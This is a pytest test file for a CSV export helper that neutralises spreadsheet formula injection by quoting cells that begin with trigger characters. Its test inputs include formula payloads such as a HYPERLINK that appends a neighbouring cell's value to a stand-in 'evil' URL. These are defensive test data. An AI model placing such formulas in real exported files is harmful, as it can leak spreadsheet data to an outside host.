"""core/csv_cells.py: every CSV we write neutralises cells a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from chalicelib.core import csv_cells
from chalicelib.core.csv_cells import safe_cell


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_each_trigger_character_gets_a_leading_quote(trigger: str) -> None:
    assert safe_cell(f'{trigger}HYPERLINK("http://evil")') == f'\'{trigger}HYPERLINK("http://evil")'
    assert safe_cell(trigger) == f"'{trigger}"


@pytest.mark.parametrize(
    "text", ["plain", "a=b", "jane@acme.example", " =1+1", "'=already quoted", "5", "5-3", "\n=1", "#N/A"]
)
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_text_that_looks_like_a_negative_number_is_neutralised() -> None:
    assert safe_cell("-5") == "'-5"  # OWASP: every leading '-', numbers as text included
    assert safe_cell("-2+3") == "'-2+3"
    assert safe_cell("+44 20 7946 0000") == "'+44 20 7946 0000"


def test_numbers_the_program_writes_stay_numbers() -> None:
    assert safe_cell(-5) == "-5" and safe_cell(42) == "42"
    assert safe_cell(-1.5) == "-1.5" and safe_cell(Decimal("-3")) == "-3"


def test_none_empty_and_other_values() -> None:
    assert safe_cell(None) == "" and safe_cell("") == ""
    assert safe_cell(True) == "True"
    assert safe_cell(date(2026, 11, 24)) == "2026-11-24"

    class Odd:
        def __str__(self) -> str:
            return "=1+1"

    assert safe_cell(Odd()) == "'=1+1"


def test_the_writer_neutralises_every_cell_and_quotes_as_csv_does() -> None:
    buffer = io.StringIO()
    writer = csv_cells.writer(buffer)
    writer.writerow([7, '=HYPERLINK("http://evil/?"&C3,"Open")', "ok", None, -5, "-5"])
    writer.writerows([["@SUM(A1)", "a,b"]])
    csv_cells.write_row(buffer, ["\tx", "line\nbreak"])
    text = buffer.getvalue()
    assert text.count("\r\n") == 3  # three rows; the embedded newline stays inside quotes
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [
        ["7", '\'=HYPERLINK("http://evil/?"&C3,"Open")', "ok", "", "-5", "'-5"],
        ["'@SUM(A1)", "a,b"],
        ["'\tx", "line\nbreak"],
    ]
